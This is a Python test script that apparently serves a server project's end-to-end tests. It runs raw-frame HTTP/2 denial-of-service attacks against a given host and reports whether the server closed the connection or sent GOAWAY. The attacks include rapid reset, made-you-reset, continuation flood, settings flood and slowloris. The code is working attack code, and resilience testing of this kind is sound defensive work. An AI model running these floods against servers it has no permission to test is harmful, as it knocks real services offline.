#!/usr/bin/env python3
"""An abusive HTTP/2 client for weir's e2e tests: raw frames (hpack from the
`h2` package for header blocks). Runs one attack against HOST PORT and prints
one JSON line: {"attack", "closed", "goaway", "elapsed", "sent"} — `closed`
whether the server ended the connection within the wait, `goaway` the error
code of its GOAWAY (null if none).

usage: h2_abuse.py HOST PORT ATTACK [PATH]
attacks: rapid-reset reset-after-accept made-you-reset continuation-flood settings-flood
         malformed-frame oversized-headers slowloris-preface
"""
import json
import select
import socket
import struct
import sys
import time

import hpack

HOST, PORT, ATTACK = sys.argv[1], int(sys.argv[2]), sys.argv[3]
PATH = sys.argv[4] if len(sys.argv) > 4 else "/v1/abuse"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


enc = hpack.Encoder()


def headers_block(extra=()):
    authority = f"[{HOST}]:{PORT}" if ":" in HOST else f"{HOST}:{PORT}"
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", PATH), *extra])


sock = socket.create_connection((HOST, PORT), timeout=10)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
started = time.monotonic()
sent = 0
state = {"goaway": None, "closed": False, "buf": b""}


def pump(wait):
    """Reads what the server sends for up to `wait` s; notes GOAWAY and EOF."""
    end = time.monotonic() + wait
    while not state["closed"]:
        left = end - time.monotonic()
        if left <= 0:
            return
        r, _, _ = select.select([sock], [], [], left)
        if not r:
            return
        try:
            chunk = sock.recv(65536)
        except (ConnectionResetError, OSError):
            state["closed"] = True
            return
        if not chunk:
            state["closed"] = True
            return
        state["buf"] += chunk
        buf = state["buf"]
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, payload = buf[3], buf[9 : 9 + length]
            if kind == GOAWAY and len(payload) >= 8:
                state["goaway"] = struct.unpack(">I", payload[4:8])[0]
            buf = buf[9 + length :]
        state["buf"] = buf


def send(data):
    global sent
    try:
        sock.sendall(data)
        sent += 1
        return True
    except (BrokenPipeError, ConnectionResetError, OSError):
        state["closed"] = True
        return False


if ATTACK == "slowloris-preface":
    send(PREFACE[:10])
    pump(30)
else:
    send(PREFACE + frame(SETTINGS, 0, 0))
    if ATTACK == "rapid-reset":
        # HEADERS then RST_STREAM(CANCEL) at once, over and over (CVE-2023-44487).
        for i in range(5000):
            sid = 2 * i + 1
            ok = send(frame(HEADERS, END_STREAM | END_HEADERS, sid, headers_block()) + frame(RST, 0, sid, struct.pack(">I", 8)))
            if not ok:
                break
            if i % 50 == 0:
                pump(0)
    elif ATTACK == "reset-after-accept":
        # Rapid Reset slowed down so each stream is taken (and forwarded) before
        # its reset: weir's own per-second reset limit is what stops it.
        for i in range(2000):
            sid = 2 * i + 1
            if not send(frame(HEADERS, END_STREAM | END_HEADERS, sid, headers_block())):
                break
            pump(0.003)
            if not send(frame(RST, 0, sid, struct.pack(">I", 8))):
                break
            if state["closed"]:
                break
    elif ATTACK == "made-you-reset":
        # Valid requests followed by a frame that makes the server reset the
        # stream itself (WINDOW_UPDATE of 0 is a stream error) (CVE-2025-8671).
        for i in range(5000):
            sid = 2 * i + 1
            ok = send(frame(HEADERS, END_STREAM | END_HEADERS, sid, headers_block()) + frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0)))
            if not ok:
                break
            if i % 50 == 0:
                pump(0)
    elif ATTACK == "continuation-flood":
        # HEADERS without END_HEADERS, then CONTINUATION frames without end.
        block = headers_block()
        send(frame(HEADERS, END_STREAM, 1, block))
        junk = enc.encode([("x-flood", "a" * 8000)])
        for i in range(20000):
            if not send(frame(CONTINUATION, 0, 1, junk)):
                break
            if i % 20 == 0:
                pump(0)
    elif ATTACK == "settings-flood":
        # SETTINGS frames as fast as possible, never reading the ACKs.
        for i in range(100000):
            if not send(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))):
                break
    elif ATTACK == "malformed-frame":
        # DATA on stream 0: a connection error (PROTOCOL_ERROR).
        send(frame(DATA, 0, 0, b"xx"))
    elif ATTACK == "oversized-headers":
        big = headers_block([("x-big", "b" * 60000)])
        chunks = [big[i : i + 16000] for i in range(0, len(big), 16000)]
        send(frame(HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), 1, chunks[0]))
        for j, c in enumerate(chunks[1:], 1):
            send(frame(CONTINUATION, END_HEADERS if j == len(chunks) - 1 else 0, 1, c))
    else:
        sys.exit(f"unknown attack {ATTACK}")
    pump(10)

print(json.dumps({
    "attack": ATTACK,
    "closed": state["closed"],
    "goaway": state["goaway"],
    "elapsed": round(time.monotonic() - started, 3),
    "sent": sent,
}), flush=True)
